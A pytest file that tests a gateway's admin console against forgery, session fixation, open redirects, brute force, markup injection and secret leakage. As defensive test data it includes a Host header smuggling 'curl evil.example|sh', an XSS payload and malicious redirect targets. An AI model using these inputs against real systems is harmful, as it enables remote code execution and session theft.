"""The console over HTTP, without a browser: forgery, cookies, errors, and what is never shown."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway.access.door import SIGN_INS_MAX
from gateway.console.render import ago, bars, milliseconds, moment, thousands
from gateway.console.same_origin import is_own
from gateway.console.web import FORM_BYTES_MAX, safe_next
from tests.unit.access.application import OWN, PASSWORD, Site, opened


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    with opened(tmp_path) as site:
        yield site


PAGES = (
    "/console/keys",
    "/console/keys/new",
    "/console/overview",
    "/console/records",
    "/console/audit",
    "/console/system",
)


def test_strangers_are_led_to_the_sign_in_page(site: Site) -> None:
    for path in (*PAGES, "/console/account", "/console/overview/live"):
        answer = site.client.get(path)
        assert answer.status_code == 303
        assert answer.headers["location"].startswith("/console/sign-in")
    for path in ("/console/keys", "/console/keys/x/revoke", "/console/keys/x/rotate", "/console/account/password"):
        assert site.client.post(path, headers=OWN).status_code == 303
    assert site.client.get("/console/overview/live", headers={"hx-request": "true"}).headers["hx-redirect"]
    assert site.door.keys.store.page(0)[1] == 0


@pytest.mark.parametrize("path", ["/api-keys", "/console", "/console/"])
def test_the_known_addresses_lead_to_the_keys(site: Site, path: str) -> None:
    assert site.client.get(path).headers["location"] == "/console/keys"


@pytest.mark.parametrize("host", ["[::1", "[x]", "a:b:c", "", "\xb2:\xb2"])
def test_an_odd_host_does_not_break_the_sign_in_page(site: Site, host: str) -> None:
    site.client.cookies.clear()
    assert site.client.get("/console/sign-in", headers={"host": host.encode("latin-1")}).status_code == 200


def test_every_page_is_shown_to_who_signed_in(site: Site) -> None:
    site.sign_in()
    for path in (*PAGES, "/console/account", "/console/overview/live"):
        assert site.client.get(path).status_code == 200
    assert site.client.get("/console/sign-in").headers["location"] == "/console/keys"


FORGED: tuple[dict[str, str], ...] = (
    {"sec-fetch-site": "cross-site"},
    {"sec-fetch-site": "same-site"},
    {"sec-fetch-site": "none"},
    {"sec-fetch-site": "cross-site", "origin": "http://testserver"},
    {"origin": "http://evil.example"},
    {"origin": "null"},
    {"origin": "http://testserver.evil.example"},
    {"origin": "http://testserver:81"},
    {"origin": "\xff"},
    {"referer": "http://testserver/console/keys"},
    {},
)


@pytest.mark.parametrize("headers", FORGED)
def test_forged_posts_are_refused_and_change_nothing(site: Site, headers: dict[str, str]) -> None:
    site.sign_in()
    raw = {name: value.encode("latin-1") for name, value in headers.items()}
    answer = site.client.post("/console/keys", data={"name": "forged", "scope": "detect"}, headers=raw)
    assert answer.status_code == 403
    assert site.door.keys.store.page(0, search="forged")[1] == 0
    assert site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=raw).status_code == 403


@pytest.mark.parametrize("headers", [OWN, {"origin": "http://testserver"}, {"origin": "HTTPS://TESTSERVER"}])
def test_our_own_forms_are_taken(site: Site, headers: dict[str, str]) -> None:
    site.sign_in()
    answer = site.client.post("/console/keys", data={"name": "own", "scope": "detect"}, headers=headers)
    assert answer.status_code == 201


def test_safe_methods_need_no_origin() -> None:
    assert is_own("GET", []) and is_own("HEAD", [(b"sec-fetch-site", b"cross-site")])
    assert not is_own("DELETE", [])


def test_the_cookie_is_strict_and_over_https_bound_to_the_host(tmp_path: Path) -> None:
    with opened(tmp_path / "a") as site:
        cookie = site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=OWN).headers["set-cookie"]
        assert re.match(r"face_api_session=[\w-]{43}; HttpOnly; Max-Age=28800; Path=/; SameSite=strict$", cookie)
    with opened(tmp_path / "b", base_url="https://testserver") as site:
        cookie = site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=OWN).headers["set-cookie"]
        assert cookie.startswith("__Host-face_api_session=")
        assert "; Secure" in cookie
        site.sign_in()
        assert site.client.get("/console/keys").status_code == 200


def test_who_says_it_is_https_without_being_a_trusted_proxy_is_not_believed(site: Site) -> None:
    headers = OWN | {"x-forwarded-proto": "https"}
    answer = site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=headers)
    assert "Secure" not in answer.headers["set-cookie"]


def test_a_new_session_is_given_at_every_sign_in_and_ends_with_signing_out(site: Site) -> None:
    fixed = OWN | {"cookie": "face_api_session=fixed-by-somebody-else"}
    site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=fixed)
    mine = site.client.cookies["face_api_session"]
    assert mine != "fixed-by-somebody-else"
    assert site.client.post("/console/sign-out", headers=OWN).status_code == 303
    assert "face_api_session" not in site.client.cookies
    assert site.client.get("/console/keys", headers={"cookie": f"face_api_session={mine}"}).status_code == 303


def test_wrong_passwords_are_slowed_down_with_words(site: Site) -> None:
    answers = [site.client.post("/console/sign-in", data={"password": "x"}, headers=OWN) for _ in range(5)]
    assert answers[0].status_code == 401
    assert "Wrong name or password" in answers[0].text
    slowed = next(
        answer for answer in answers if answer.status_code == 429
    )  # waits double: soon longer than any hashing
    assert int(slowed.headers["retry-after"]) >= 1


def test_tries_to_sign_in_are_limited_by_address_before_the_store_is_asked(site: Site) -> None:
    tries = [site.client.post("/console/sign-in", data={"password": "x"}, headers=OWN) for _ in range(SIGN_INS_MAX)]
    assert "Too many wrong tries" in tries[-1].text
    beyond = site.client.post("/console/sign-in", data={"password": "x"}, headers=OWN)
    assert (beyond.status_code, "Too many tries to sign in" in beyond.text) == (429, True)


def test_a_try_that_a_store_which_is_down_could_not_look_at_is_none(site: Site, tmp_path: Path) -> None:
    store = tmp_path / "var" / "keys.sqlite"
    hidden = store.rename(store.with_suffix(".hidden"))
    for _ in range(SIGN_INS_MAX + 1):
        down = site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=OWN)
        assert down.status_code == 503
    hidden.rename(store)
    assert site.client.post("/console/sign-in", data={"password": PASSWORD}, headers=OWN).status_code == 303


@pytest.mark.parametrize(
    "target",
    ["//evil.example", "https://evil.example", "/console/../x", "/consolex", "javascript:1", "/console/\n", ""],
)
def test_signing_in_leads_nowhere_else(target: str) -> None:
    assert safe_next(target) == "/console/keys"


def test_a_mistake_in_the_form_is_told_and_nothing_typed_is_lost(site: Site) -> None:
    site.sign_in()
    data = {"name": "kept <b>", "expires": "custom", "day": "2020-01-01", "mask_limit": "7"}
    answer = site.client.post("/console/keys", data=data, headers=OWN)
    assert answer.status_code == 422
    assert "scopes: at least one" in answer.text
    assert 'value="kept &lt;b&gt;"' in answer.text
    assert 'value="7"' in answer.text
    past = site.client.post("/console/keys", data=data | {"scope": "mask"}, headers=OWN)
    assert "expires_in" in past.text
    for broken in ({"day": "soon"}, {"day": "9999-12-31"}, {"expires": "forever"}, {"mask_limit": "many"}):
        assert site.client.post("/console/keys", data=data | {"scope": "mask"} | broken, headers=OWN).status_code == 422


def test_a_form_has_a_limit(site: Site) -> None:
    site.sign_in()
    form = OWN | {"content-type": "application/x-www-form-urlencoded"}
    fits = b"name=n&scope=mask&x=".ljust(FORM_BYTES_MAX, b"x")
    assert site.client.post("/console/keys", content=fits, headers=form).status_code == 201
    assert site.client.post("/console/keys", content=fits + b"x", headers=form).status_code == 413
    assert site.client.post("/console/keys", content=b"a=1&" * 51, headers=form).status_code == 422
    assert site.client.post("/console/keys", content=b"name=\xff\xfe", headers=form).status_code == 422


def test_a_host_header_that_carries_more_is_not_repeated(site: Site) -> None:
    site.sign_in()
    data = {"name": "n", "scope": "detect"}
    good = site.client.post("/console/keys", data=data, headers=OWN | {"host": "faces.example:8443"})
    assert "http://faces.example:8443/api/v1/detect" in good.text
    bad = site.client.post("/console/keys", data=data, headers=OWN | {"host": "x;curl evil.example|sh"})
    assert "evil" not in bad.text


def test_the_lines_to_copy_fit_the_scopes(site: Site) -> None:
    site.sign_in()

    def lines(*scopes: str) -> str:
        return site.client.post("/console/keys", data={"name": "n", "scope": list(scopes)}, headers=OWN).text

    assert "/api/v1/detect" in lines("detect", "mask")
    assert "-o masked.jpg" in lines("mask")
    assert "/api/v1/admin/keys" in lines("admin")


def test_a_key_is_on_no_other_page_than_the_one_that_shows_it_once(site: Site) -> None:
    site.sign_in()
    shown = site.client.post("/console/keys", data={"name": "n", "scope": "detect"}, headers=OWN)
    key = re.search(r"xyl_[0-9a-f]{64}", shown.text)
    assert key is not None
    assert shown.headers["cache-control"] == "no-store"
    for path in PAGES:
        assert key[0][10:] not in site.client.get(path).text


def test_no_secret_is_on_the_system_page(tmp_path: Path) -> None:
    with opened(tmp_path, key_pepper="p" * 40, redis_url="redis://:hidden-word@127.0.0.1:1/0") as site:
        site.sign_in()
        text = site.client.get("/console/system").text
        assert "ppppp" not in text
        assert "hidden-word" not in text


def test_markup_in_names_and_addresses_is_text(site: Site) -> None:
    site.sign_in()
    nasty = "<img src=x onerror=alert(1)>"
    site.client.post("/console/keys", data={"name": nasty, "scope": "detect"}, headers=OWN)
    site.client.headers["user-agent"] = nasty
    site.sign_in()
    for path in ("/console/keys", "/console/audit", "/console/account", f"/console/keys?search={nasty}"):
        text = site.client.get(path).text
        assert nasty not in text
        assert "&lt;img src=x" in text


def test_every_answer_carries_the_security_headers_and_no_page_allows_inline(site: Site) -> None:
    site.sign_in()
    for path in (*PAGES, "/console/static/console.css", "/console/nowhere", "/console/static/nothing"):
        headers = site.client.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
    text = "".join(site.client.get(path).text for path in PAGES)
    assert not re.search(r"<script(?! src=)|\son\w+=|style=|<style", text)
    assert not re.search(r'(?:src|href|action)="(?!/)', text.replace('href="#content"', ""))


def test_an_unknown_key_and_a_lost_store_are_pages_with_words(site: Site, tmp_path: Path) -> None:
    site.sign_in()
    missing = site.client.get("/console/keys/key_000000000000")
    assert (missing.status_code, "No such key" in missing.text) == (404, True)
    (tmp_path / "var" / "keys.sqlite").unlink()
    lost = site.client.get("/console/keys")
    assert (lost.status_code, "cannot be reached" in lost.text) == (503, True)
    assert lost.headers["retry-after"] == "5"


def test_the_vendored_script_is_the_one_that_is_written_down() -> None:
    import hashlib

    folder = Path("gateway/console/static")
    told = (folder / "VENDORED.txt").read_text()
    assert hashlib.sha256((folder / "htmx.min.js").read_bytes()).hexdigest() in told
    assert "Zero-Clause BSD" in (folder / "htmx.LICENSE").read_text()


def test_times_and_numbers_are_shown_to_people() -> None:
    assert moment(1_800_000_000) == "2027-01-15 08:00 UTC"
    assert (moment(None), ago(None, 0)) == ("never", "never")
    words = [ago(1000 - s, 1000) for s in (0, 30, 60, 7200, 86_400 * 3)]
    assert words == ["just now", "30 seconds ago", "1 minute ago", "2 hours ago", "3 days ago"]
    assert ago(1000 + 90 * 86_400 - 60, 1000) == "in 90 days"
    assert thousands(1234567) == "1\u202f234\u202f567"
    assert (milliseconds(None), milliseconds(12.34), milliseconds(1234.5)) == ("–", "12.3\u202fms", "1234\u202fms")
    assert bars([0, 5, 10]) == [
        {"x": 0, "height": 0.0, "y": 40.0},
        {"x": 10, "height": 20.0, "y": 20.0},
        {"x": 20, "height": 40.0, "y": 0.0},
    ]
